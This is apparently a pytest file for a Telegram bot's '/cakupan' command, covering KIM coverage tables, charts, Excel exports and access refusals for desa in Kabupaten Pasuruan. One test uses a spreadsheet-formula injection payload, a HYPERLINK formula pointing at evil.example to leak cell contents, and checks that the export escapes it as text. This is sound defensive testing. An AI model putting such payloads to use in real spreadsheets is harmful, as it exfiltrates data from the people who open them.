"""/cakupan in the chat: the table, the chart, the spreadsheet and the desa still without KIM."""

from __future__ import annotations

import io
import struct
from datetime import datetime

from openpyxl import load_workbook  # type: ignore[import-untyped]

from bot import audit, people
from bot.people import Role
from bot.services import KimApp
from botapi_sandbox import BotApiServer, FakeUser
from botapi_sandbox.session import ChatSession
from handlers.coverage import CoverageChart, Gaps
from tests.cards import card_with
from tests.network import Network
from tests.test_coverage import PNG_SIGNATURE, RACI, add_kim, add_subscriber


async def _operator(server: BotApiServer, kimbot: KimApp) -> ChatSession:
    """Budi, an operator of the office, with Raci's KIM approved and one Kalianyar subscriber."""
    services = kimbot.bot_data
    budi = server.new_user("Budi", last_name="Operator")
    await people.grant(
        services.db, user_id=budi.id, role=Role.OPERATOR, actor_id=None, now=services.clock.now()
    )
    await add_kim(services.db, RACI, "KIM Raci Maju")
    await add_subscriber(services.db, 900001, "35.14.14.1012")  # Kalianyar
    return server.private(budi)


async def test_operator_sees_the_table_then_gets_chart_and_spreadsheet(
    server: BotApiServer, kimbot: KimApp
) -> None:
    """Table with Bangil 1/15 and the regency total; the buttons bring a PNG and an XLSX."""
    chat = await _operator(server, kimbot)
    await chat.send("/cakupan")
    table = await chat.expect()
    assert "Cakupan KIM — Kabupaten Pasuruan" in table.text
    bangil = next(line for line in table.text.splitlines() if line.startswith("Bangil "))
    assert bangil.split() == ["Bangil", "1/15", "6,7"]
    assert "1 dari 365 desa (0,3%)" in table.text
    assert "<pre>" in table.html
    assert table.button_texts() == ["📊 Grafik", "📄 Excel", "🏚 Desa tanpa KIM"]

    await chat.press(table, "📊 Grafik")
    chart = await chat.expect()
    assert chart.kind == "photo"
    assert chart.photo is not None and chart.photo.startswith(PNG_SIGNATURE)
    width, height = struct.unpack(">II", chart.photo[16:24])
    assert width >= 600 and height >= 600
    assert "1 dari 365 desa (0,3%)" in chart.text

    before = datetime.now(kimbot.bot_data.settings.tz).date()
    await chat.press(table, "📄 Excel")
    sheet = await chat.expect()
    after = datetime.now(kimbot.bot_data.settings.tz).date()
    assert sheet.kind == "document"
    assert sheet.filename in {
        f"cakupan-kim-35.14-{day.isoformat()}.xlsx" for day in (before, after)
    }
    assert sheet.document is not None
    workbook = load_workbook(io.BytesIO(sheet.document))
    rows = list(workbook["Desa"].iter_rows(values_only=True))
    assert len(rows) == 1 + 365
    raci = next(row for row in rows if row[2] == RACI)
    assert raci[5] == "KIM Raci Maju"
    assert raci[6] == "aktif"
    kalianyar = next(row for row in rows if row[1] == "Kalianyar")
    assert kalianyar[4:] == ("Tidak", None, None, 1)
    await chat.expect_nothing(within=0.2)


async def test_a_kim_named_like_a_formula_is_text_in_the_spreadsheet(
    server: BotApiServer, kimbot: KimApp
) -> None:
    """A group admin's "=HYPERLINK(...)" KIM name reaches the XLSX as text, never a formula."""
    chat = await _operator(server, kimbot)
    trap = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
    await Network(server, kimbot).kim_group(trap, "35.14.14.1012", server.new_user("Eko"))
    await chat.send("/cakupan")
    table = await chat.expect()
    await chat.press(table, "📄 Excel")
    sheet = await chat.expect()
    assert sheet.document is not None
    workbook = load_workbook(io.BytesIO(sheet.document))
    cells = [row[5] for row in workbook["Desa"].iter_rows() if row[2].value == "35.14.14.1012"]
    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + trap, "s")]
    counts = [row[7] for row in workbook["Desa"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in counts} == {"n"}  # numbers stay numbers


async def test_operator_lists_the_desa_without_kim_of_a_kecamatan(
    server: BotApiServer, kimbot: KimApp
) -> None:
    """Desa tanpa KIM → pick Bangil: its 14 other desa, subscribers noted, back to the table."""
    chat = await _operator(server, kimbot)
    await chat.send("/cakupan")
    table = await chat.expect()
    await chat.press(table, "🏚 Desa tanpa KIM")
    picker = await chat.expect_edit(table)
    assert "Pilih kecamatan" in picker.text
    assert "Bangil · 14" in picker.button_texts()
    assert "Tutur · 12" in picker.button_texts()
    assert len(picker.button_texts()) == 24 + 1

    await chat.press(picker, "Bangil · 14")
    listing = await chat.expect_edit(table)
    assert "Kecamatan Bangil" in listing.text
    assert "14 dari 15 desa belum punya KIM" in listing.text
    names = [line[2:] for line in listing.text.splitlines() if line.startswith("• ")]
    assert len(names) == 14
    assert "Raci" not in names
    assert "Masangan" in names
    assert "Kel. Kalianyar — 1 pelanggan" in names

    await chat.press(listing, "« Kecamatan lain")
    again = await chat.expect_edit(table)
    assert "Pilih kecamatan" in again.text
    await chat.press(again, "« Ringkasan")
    back = await chat.expect_edit(table)
    assert "1 dari 365 desa (0,3%)" in back.text
    await chat.expect_nothing(within=0.2)


async def test_a_kecamatan_with_every_desa_covered_is_celebrated(
    server: BotApiServer, kimbot: KimApp
) -> None:
    """All seven desa of Puspo with a KIM: a ✅ button and a short congratulation."""
    chat = await _operator(server, kimbot)
    db = kimbot.bot_data.db
    codes = [
        r["code"]
        for r in await db.fetchall("SELECT code FROM desa WHERE code LIKE ?", ("35.14.03.%",))
    ]
    for code in codes:
        await add_kim(db, code, f"KIM {code}")
    await chat.send("/cakupan")
    table = await chat.expect()
    await chat.press(table, "🏚 Desa tanpa KIM")
    picker = await chat.expect_edit(table)
    await chat.press(picker, "Puspo ✅")
    listing = await chat.expect_edit(table)
    assert "Semua 7 desa sudah punya KIM" in listing.text


async def test_forged_kecamatan_is_stale_and_changes_nothing(
    server: BotApiServer, kimbot: KimApp
) -> None:
    """A kecamatan code that does not exist is answered as a stale button."""
    chat = await _operator(server, kimbot)
    await chat.send("/cakupan")
    table = await chat.expect()
    answer = await chat.press_data(table, Gaps("99.99.99").encode())
    assert answer.text == "Pilihan ini sudah tidak berlaku."
    answer = await chat.press_data(table, "cakd:")
    assert answer.text == "Pilihan ini sudah tidak berlaku."
    await chat.expect_nothing(within=0.2)
    assert server.message(chat.chat_id, table).edits == 0


async def test_villager_is_refused_cakupan_and_its_buttons(
    server: BotApiServer, kimbot: KimApp, admin: FakeUser
) -> None:
    """A villager gets a polite refusal for /cakupan and for a forwarded chart button."""
    villager = server.new_user("Sumi")
    chat = server.private(villager)
    await chat.send("/cakupan")
    refusal = await chat.expect()
    assert "hanya untuk petugas" in refusal.text
    assert "dari 365 desa" not in refusal.text
    card = await card_with(kimbot, villager.id, CoverageChart().encode())
    await chat.expect()
    answer = await chat.press_data(card, CoverageChart().encode())
    assert "hanya untuk petugas" in (answer.text or "")
    await chat.expect_nothing(within=0.3)
    denied = await audit.entries(kimbot.bot_data.db, action="access.denied")
    assert {(e.actor_id, e.object_id) for e in denied} == {
        (villager.id, "/cakupan"),
        (villager.id, "cakupan.button"),
    }


async def test_admin_may_read_coverage_too(
    server: BotApiServer, kimbot: KimApp, admin: FakeUser
) -> None:
    """The office's admin (ADMIN_IDS) sees the same table."""
    chat = server.private(admin)
    await chat.send("/cakupan")
    table = await chat.expect()
    assert "0 dari 365 desa (0,0%)" in table.text
    assert table.button_texts() == ["📊 Grafik", "📄 Excel", "🏚 Desa tanpa KIM"]
